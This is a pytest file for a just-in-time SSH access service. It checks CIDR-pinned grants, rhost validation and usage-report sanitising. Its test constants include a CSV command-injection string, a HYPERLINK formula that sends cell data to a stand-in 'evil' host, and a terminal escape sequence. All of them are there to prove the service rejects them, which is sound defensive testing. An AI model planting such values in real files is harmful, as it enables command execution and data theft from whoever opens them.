"""The login's source (rhost) on the service: a pinned grant refuses logins from outside its
ranges before any session is recorded, and host-supplied rhost text never reaches the usage
report's CSV or table as a formula or an escape sequence (sessions review M2, H2).

Real service (SQLite and PostgreSQL); the hook calls are what jit-pam-account --open-session
and the session hook send.
"""

from __future__ import annotations

import csv
import io
import json

from tests.server.conftest import World

ACCOUNT = "/api/v1/hook/account"
SESSION = "/api/v1/hook/session"
FORMULA = "-2+3+cmd|' /C calc'!A0"
ESCAPE = '=HYPERLINK("http://evil/"&A1,"x")\x1b]2;owned\x07'


def pinned(w: World, cidrs: list[str]) -> int:
    code, req = w.request(from_cidrs=cidrs)
    assert code == 201, req
    code, req = w.call("bob", "POST", f"/api/v1/requests/{req['id']}/approve", {})
    assert (code, req["state"]) == (200, "approved"), req
    return req["id"]


def account(w: World, conn: str, rhost: str | None) -> tuple[int, dict]:
    body = {
        "login": "deploy",
        "rhost": rhost,
        "service": "sshd",
        "connection": conn,
        "fingerprint": w.keys["alice"].fingerprint,
        "open_session": True,
    }
    return w.call("web1", "POST", ACCOUNT, body)


def usage_entry(w: World, rid: int) -> dict:
    code, rep = w.call("root-admin", "GET", "/api/v1/reports/usage")
    assert code == 200, rep
    return next(a for a in rep["approvals"] if a["request_id"] == rid)


def test_pinned_grant_refuses_outside_sources_and_records_no_session(world):
    w = world
    rid = pinned(w, ["10.0.0.0/8"])
    # Outside the pin, no address at all, a DNS name (UseDNS): denied, nothing recorded.
    for conn, rhost in (("1:1", "203.0.113.9"), ("2:1", None), ("3:1", "evil.example.com")):
        code, ans = account(w, conn, rhost)
        assert code == 200 and ans["decision"] == "deny", ans
        assert ans["request_id"] is None and f"approval {rid} does not allow" in ans["reason"]
    assert w.svc.sql("SELECT COUNT(*) FROM sessions")[0][0] == 0
    entry = usage_entry(w, rid)
    assert (entry["used"], entry["sessions"], entry["sources"]) == (False, 0, [])
    denied = [
        json.loads(d)
        for (d,) in w.svc.sql(
            "SELECT data FROM audit_events WHERE kind = 'hook.account' ORDER BY id"
        )
    ]
    assert [d["decision"] for d in denied] == ["deny"] * 3
    assert {d["pinned_request"] for d in denied} == {rid} and "session" not in denied[0]

    # Inside the pin (an IPv4-mapped address counts as its IPv4 one): allowed and recorded.
    code, ans = account(w, "4:1", "::ffff:10.1.2.3")
    assert (code, ans["decision"], ans["from_cidrs"]) == (200, "allow", ["10.0.0.0/8"]), ans
    assert w.svc.sql("SELECT connection, request_id FROM sessions") == [("4:1", rid)]

    # The session hook's open event (wiring with a session-open hook) is held to the pin too.
    k = w.keys["alice"]
    body = {"event": "open", "login": "deploy", "rhost": "198.51.100.7", "connection": "5:1",
            "key_type": k.key_type, "key": k.blob, "fingerprint": k.fingerprint}  # fmt: skip
    code, ans = w.call("web1", "POST", SESSION, body)
    assert (code, ans["decision"]) == (200, "deny"), ans
    assert w.svc.sql("SELECT COUNT(*) FROM sessions")[0][0] == 1


def test_rhost_must_be_an_address_or_host_name(world):
    w = world
    pinned(w, ["10.0.0.0/8"])
    for i, bad in enumerate((FORMULA, ESCAPE, "fe80::1%=cmd", "a b")):
        code, ans = account(w, f"{10 + i}:1", bad)
        assert code == 422 and "rhost" in json.dumps(ans), (bad, ans)
        body = {"event": "open", "login": "deploy", "rhost": bad, "connection": f"{20 + i}:1"}
        code, ans = w.call("web1", "POST", SESSION, body)
        assert code == 422 and "rhost" in json.dumps(ans), (bad, ans)
    assert w.svc.sql("SELECT COUNT(*) FROM sessions")[0][0] == 0
    # Names and addresses sshd gives are fine (IPv6 with a zone too).
    for i, ok in enumerate(("10.0.0.1", "fe80::1%eth0", "bastion-1.example.com")):
        code, ans = account(w, f"{30 + i}:1", ok)
        assert code == 200, ans
    # A break-glass report is never refused (the login happened): its odd rhost is replaced.
    body = {"login": "root", "rhost": ESCAPE, "stage": "account", "connection": "40:1"}
    code, ans = w.call("web1", "POST", "/api/v1/hook/break-glass", body)
    assert code == 200, ans
    rows = w.svc.sql("SELECT data FROM audit_events WHERE kind = 'hook.break_glass'")
    assert [json.loads(d)["rhost"] for (d,) in rows] == ["invalid"]


def test_usage_report_guards_formulas_and_escapes_from_old_rows(world):
    """Rows written before rhost was checked: CSV cells cannot start a formula, the table
    and CSV carry no control characters."""
    w = world
    rid = pinned(w, ["10.0.0.0/8"])
    code, ans = account(w, "50:1", "10.9.9.9")
    assert (code, ans["decision"]) == (200, "allow"), ans
    for conn, rhost in (("51:1", FORMULA), ("52:1", ESCAPE)):
        w.svc.sql(
            "INSERT INTO sessions (host_id, login, user_id, request_id, connection, rhost, "
            "fingerprint, opened_at) SELECT host_id, login, user_id, request_id, ?, ?, "
            "fingerprint, opened_at FROM sessions WHERE connection = '50:1'",
            (conn, rhost),
        )
    csv_text = w.svc.admin("report", "usage", "--format", "csv")
    assert "\x1b" not in csv_text and "\x07" not in csv_text
    [row] = [r for r in csv.DictReader(io.StringIO(csv_text)) if r["request_id"] == str(rid)]
    assert row["sources"].startswith("'-2+3+cmd"), row["sources"]
    assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values())

    from jit_hooks.server.usage import to_csv

    crafted = usage_entry(w, rid) | {"target": "=1+1", "login": "@SUM(A1)"}
    cells = list(csv.reader(io.StringIO(to_csv([crafted]))))[1]
    assert (cells[2], cells[3]) == ("'=1+1", "'@SUM(A1)")

    table = w.svc.admin("report", "usage")
    assert "\x1b" not in table and "\x07" not in table and "HYPERLINK" in table


def test_abort_deletes_only_a_fresh_open_session_of_this_host(world):
    """The host refused the login after the account call opened its session (event=abort)."""
    w = world
    rid = pinned(w, ["10.0.0.0/8"])
    for conn in ("60:1", "61:1", "62:1"):
        code, ans = account(w, conn, "10.0.0.5")
        assert (code, ans["decision"]) == (200, "allow"), ans
    # 61:1 opened long ago (past the abort window); 62:1 belongs to web1, asked by web2.
    w.svc.sql("UPDATE sessions SET opened_at = opened_at - 600 WHERE connection = '61:1'")
    for who, conn in (("web1", "60:1"), ("web1", "61:1"), ("web2", "62:1")):
        body = {"event": "abort", "login": "deploy", "rhost": "10.0.0.5", "connection": conn}
        code, ans = w.call(who, "POST", SESSION, body)
        assert code == 200 and ans["reason"] == "session aborted", ans
    left = w.svc.sql("SELECT connection FROM sessions ORDER BY connection")
    assert left == [("61:1",), ("62:1",)]
    entry = usage_entry(w, rid)
    assert entry["sessions"] == 2
    aborts = [
        json.loads(d)
        for (d,) in w.svc.sql(
            "SELECT data FROM audit_events WHERE kind = 'hook.session' ORDER BY id"
        )
    ]
    assert [(a["event"], a["connection"], a["aborted"]) for a in aborts] == [
        ("abort", "60:1", 1), ("abort", "61:1", 0), ("abort", "62:1", 0),
    ]  # fmt: skip
